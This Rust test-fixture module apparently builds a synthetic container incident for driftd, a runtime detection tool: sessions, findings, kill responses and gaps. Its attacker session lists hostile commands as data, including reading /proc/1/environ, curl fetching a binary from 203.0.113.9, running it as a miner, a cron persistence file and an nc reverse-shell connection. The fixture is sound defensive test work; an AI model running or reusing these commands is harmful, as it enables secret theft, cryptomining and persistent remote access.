//! An incident as driftd records it. All times are fixed.

use driftd::history::{MemberChange, Record};
use driftd::model::finding::MEMBER_SCHEMA;
use driftd::model::{
    Answer, Blake3Hash, Command, Disposition, Entry, Exit, Finding, Incarnation, Interactive, Kind,
    Login, Member, Outcome, Process, ProcessIdentity, Restarter, RootfsPath, RuleAnswer, Session,
    SessionId, SessionState, Severity,
};
use driftd::respond::Response;
use jiff::{Timestamp, ToSpan as _};

/// The container, as an argument.
pub(crate) const CONTAINER: &str = "4f1c0a9be2d7";
/// The session in which most of it happened.
pub(crate) const SESSION: &str = "a1000000";

/// A time on the day of the incident.
pub(crate) fn at(clock: &str) -> Timestamp {
    format!("2026-11-20T{clock}Z").parse().unwrap()
}

pub(crate) fn sample_finding() -> Finding {
    serde_json::from_str(include_str!("../data/finding.json")).unwrap()
}

pub(crate) fn sample_session() -> Session {
    serde_json::from_str(include_str!("../data/session.json")).unwrap()
}

pub(crate) fn path(path: impl AsRef<[u8]>) -> RootfsPath {
    RootfsPath::new(path.as_ref()).unwrap()
}

pub(crate) fn finding(number: u8, kind: Kind, at: Timestamp, name: &str) -> Finding {
    let mut finding = sample_finding();
    finding.id.0 = [number; 16];
    (finding.kind, finding.severity, finding.attack) = (kind, kind.severity(), kind.attack());
    (finding.first_seen, finding.last_seen, finding.count) = (at, at, 1);
    finding.session = None;
    finding.run = Some(Incarnation {
        pid: 4100,
        start_time: Some(9),
        created_at: Some(self::at("08:00:00")),
    });
    finding.writer = None;
    finding.after_start_milliseconds = None;
    finding.verdict.policy_generation = 3;
    let file = finding.file.as_mut().unwrap();
    file.path = path(name);
    file.mode = "0755".into();
    file.blake3 = Some(Blake3Hash([number; 32]));
    finding.process = Some(process(4300 + u32::from(number), "/bin/sh", &["sh"]));
    finding.expected = None;
    finding
}

pub(crate) fn process(pid: u32, exe: &str, argv: &[&str]) -> Process {
    let mut process = sample_finding().process.unwrap();
    process.identity = ProcessIdentity { pid, start_time: 1 };
    process.exe = Some(exe.into());
    process.argv = Some(argv.iter().copied().map(str::to_owned).collect());
    process
}

pub(crate) fn session(number: u8, start: Timestamp, end: Option<Timestamp>) -> Session {
    let mut session = sample_session();
    session.id = SessionId([number; 16]);
    session.id.0[1..].fill(0);
    (session.started_at, session.ended_at) = (start, end);
    session.state = if end.is_some() { SessionState::Closed } else { SessionState::Open };
    session.exit = end.map(|_| Exit { code: Some(0), signal: None });
    (session.finding, session.findings, session.findings_total) = (None, vec![], 0);
    session.commands = 0;
    session
}

pub(crate) fn commands(session: &mut Session, list: &[(&str, &str)]) -> Vec<Command> {
    let sample: Command = serde_json::from_str(include_str!("../data/command.json")).unwrap();
    session.commands = list.len() as u64;
    let command = |(index, (clock, line)): (usize, &(&str, &str))| {
        let mut command = sample.clone();
        (command.session, command.number) = (session.id, index as u64 + 1);
        let argv: Vec<String> = line.split(' ').map(str::to_owned).collect();
        (command.exe, command.argv) = (Some(argv[0].clone()), Some(argv));
        command.started_at = clock.parse().unwrap_or_else(|_| at(clock));
        command.ended_at = Some(command.started_at + 1.seconds());
        command.exit = Some(Exit { code: Some(0), signal: None });
        command
    };
    list.iter().enumerate().map(command).collect()
}

pub(crate) fn response(action: &str, at: Timestamp, succeeded: bool, message: &str) -> Response {
    Response {
        ticket: 0,
        container: sample_session().container.id,
        pod: None,
        image: None,
        changed: true,
        incarnation: None,
        process: None,
        reason: "finding exec.modified".into(),
        requested_by: "rule curl".into(),
        requested_at: at,
        finding: None,
        case: None,
        outcome: Outcome {
            action: action.into(),
            succeeded,
            gone: false,
            message: message.into(),
            restarter: None,
            at,
        },
    }
}

pub(crate) fn gap(name: &str, everywhere: bool, from: &str, until: Option<&str>) -> Record {
    Record::Gap {
        name: name.into(),
        container: (!everywhere).then(|| sample_session().container.id),
        detail: "7 observations had no room".into(),
        at: at(from),
        until: until.map(at),
    }
}

fn records_of_sessions() -> Vec<Record> {
    let start = "2026-11-18T03:12:00Z".parse().unwrap();
    let mut nightly = session(0xb2, start, Some(start + 4.seconds()));
    (nightly.interactive, nightly.process.tty, nightly.login) = (None, None, None);
    nightly.requested_by = Some("system:serviceaccount:prod:backup".into());
    nightly.process.argv = Some(vec!["pg_dump".into(), "shop".into()]);
    let dump = commands(&mut nightly, &[("2026-11-18T03:12:00Z", "pg_dump shop")]);

    let mut attack = session(0xa1, at("10:00:00"), Some(at("10:06:00")));
    (attack.findings_total, attack.exit) = (5, Some(Exit { code: Some(130), signal: None }));
    attack.findings =
        [1, 2, 3, 4, 5].map(|number| finding(number, Kind::ExecNew, start, "/x").id).to_vec();
    let typed = commands(
        &mut attack,
        &[
            ("10:00:04", "id"),
            ("10:00:09", "cat /proc/1/environ"),
            ("10:01:07", "curl -so /tmp/.x http://203.0.113.9/x"),
            ("10:01:28", "chmod +x /tmp/.x"),
            ("10:01:30", "/tmp/.x --pool 203.0.113.9:3333"),
            ("10:02:38", "tee /etc/cron.d/up"),
        ],
    );

    let mut shell = session(0xc3, at("10:03:20"), None);
    (shell.entry, shell.interactive) = (Entry::ReverseShell, Some(Interactive::Socket));
    (shell.requested_by, shell.client, shell.exec_id) = (None, None, None);
    (shell.process.tty, shell.login) = (None, Some(Login { uid: 1000, audit_session: None }));
    shell.findings_total = 1;
    let mut ran =
        commands(&mut shell, &[("10:03:22", "whoami"), ("10:03:40", "nc 203.0.113.9 4444")]);
    (ran[1].ended_at, ran[1].exit) = (None, None);
    // driftd has kept two of nine.
    shell.commands = 9;
    [(nightly, dump), (attack, typed), (shell, ran)]
        .map(|(session, commands)| Record::Session { session: Box::new(session), commands })
        .into()
}

fn records_of_findings() -> Vec<Record> {
    let attack = session(0xa1, at("10:00:00"), None).id;
    let mut dropped = finding(1, Kind::FileAdded, at("10:01:08"), "/tmp/.x");
    dropped.process =
        Some(process(4311, "/usr/bin/curl", &["curl", "-so", "/tmp/.x", "http://203.0.113.9/x"]));

    let mut executed = finding(2, Kind::ExecNew, at("10:01:30"), "/tmp/.x");
    executed.file.as_mut().unwrap().blake3 = dropped.file.as_ref().unwrap().blake3;
    (executed.count, executed.last_seen) = (3, at("10:04:50"));
    executed.process = Some(process(4320, "/tmp/.x", &["/tmp/.x", "--pool", "203.0.113.9:3333"]));
    (executed.writer, executed.story) = (dropped.process.clone(), Some(dropped.id));

    let mut changed = finding(3, Kind::ExecModified, at("10:02:05"), "/usr/bin/curl");
    changed.expected = sample_finding().expected;
    changed.verdict.policy_generation = 4;
    changed.verdict.disposition = Disposition::Kill;
    (changed.verdict.rule, changed.verdict.rules) = (Some("curl".into()), vec!["curl".into()]);
    changed.verdict.action = Some("kill".into());
    changed.verdict.answers =
        vec![RuleAnswer { action: Answer::Kill, rule: "curl".into(), dry_run: false, hook: None }];
    changed.outcome = Some(
        response("kill", at("10:02:16"), false, "containerd has not answered in 10 s").outcome,
    );

    let persistent = finding(4, Kind::FilePersistence, at("10:02:39"), "/etc/cron.d/up");
    let mut reverse = finding(6, Kind::ShellReverse, at("10:03:20"), "/bin/sh");
    reverse.file = None;
    reverse.detail = Some("its input and output are a connection to 203.0.113.9:443".into());
    reverse.session = Some(session(0xc3, at("10:03:20"), None).id);

    let mut kit = finding(5, Kind::FileAdded, at("10:03:02"), "/tmp/kit");
    kit.files = Some(40);
    let members = (1..=12_u8).map(|number| {
        MemberChange::Seen(Member {
            schema: MEMBER_SCHEMA.into(),
            path: path(format!("/tmp/kit/tool-{number:02}")),
            kind: Kind::FileAdded,
            blake3: Some(Blake3Hash([number; 32])),
            first_seen: at("10:03:02"),
            last_seen: at("10:03:02"),
            removed: number == 2,
        })
    });
    let members = members.collect();

    let mut plugin = finding(7, Kind::ExecNew, at("08:00:20"), "/opt/plugins/theme");
    plugin.verdict.disposition = Disposition::Accept;
    plugin.verdict.rule = Some("app-plugins".into());
    for one in [&mut dropped, &mut executed, &mut changed, &mut kit] {
        one.session = Some(attack);
    }
    let mut records: Vec<Record> = [dropped, executed, changed, persistent, reverse, plugin]
        .into_iter()
        .map(|finding| Record::Finding(Box::new(finding)))
        .collect();
    records.push(Record::Aggregate { finding: Box::new(kit), changes: members });
    records
}

/// A user comes in, runs a miner, changes a program and leaves a reverse shell behind. The
/// first kill fails, the second succeeds, and the view has gaps.
pub(crate) fn records() -> Vec<Record> {
    let changed = finding(3, Kind::ExecModified, at("10:02:05"), "/usr/bin/curl");
    let mut first = response("kill", at("10:02:16"), false, "containerd has not answered in 10 s");
    first.finding = Some(changed.id);
    let mut second = response("kill", at("10:07:30"), true, "killed (pid 4100)");
    (second.requested_by, second.reason) = ("uid 0 pid 812 (alice)".into(), "a miner".into());
    second.outcome.restarter = Some(Restarter::Kubelet);
    let mut records = records_of_sessions();
    records.extend(records_of_findings());
    records.extend([first, second].map(|response| Record::Response(Box::new(response))));
    records.extend([
        gap("pipeline_full", false, "10:03:30", Some("10:04:10")),
        gap("trace_lost", true, "10:04:00", Some("10:04:25")),
        gap("history_write", true, "10:07:00", None),
    ]);
    records
}

/// Findings of falling severity, one each second.
pub(crate) fn many(number: u32) -> Vec<Record> {
    let one = |index: u32| {
        let severity = Severity::ALL[(index % 5) as usize];
        let at = at("10:00:00") + i64::from(index).seconds();
        let mut finding = finding(9, Kind::FileAdded, at, &format!("/srv/file-{index:05}"));
        finding.id.0[..4].copy_from_slice(&index.to_be_bytes());
        finding.severity = severity;
        Record::Finding(Box::new(finding))
    };
    (0..number).map(one).collect()
}

/// Many sessions, responses and gaps at the same time, within a day.
pub(crate) fn busy() -> Vec<Record> {
    let mut records = Vec::new();
    for index in 0..60_u8 {
        let start = at("00:10:00") + (i64::from(index) * 13).minutes();
        let end = (index % 7 != 0).then(|| start + (i64::from(index) * 3 + 1).minutes());
        let mut one = session(index, start, end);
        one.requested_by = Some(format!("user-{index}-of-a-team-with-a-long-name@example.org"));
        one.findings_total = u64::from(index % 5);
        records.push(Record::Session { session: Box::new(one), commands: Vec::new() });
    }
    for index in 0..40_u32 {
        let time = at("00:30:00") + i64::from(index * index).minutes();
        let action = if index % 3 == 0 { "kill-process" } else { "pause" };
        let answered = response(action, time, index % 4 != 0, "x");
        records.push(Record::Response(Box::new(answered)));
    }
    for index in 0..50_u32 {
        let start = at("01:00:00") + (i64::from(index) * 17).minutes();
        records.push(Record::Gap {
            name: "pipeline_full".into(),
            container: None,
            detail: "x".into(),
            at: start,
            until: Some(start + i64::from(index % 9).minutes()),
        });
    }
    records.extend(many(500));
    records
}
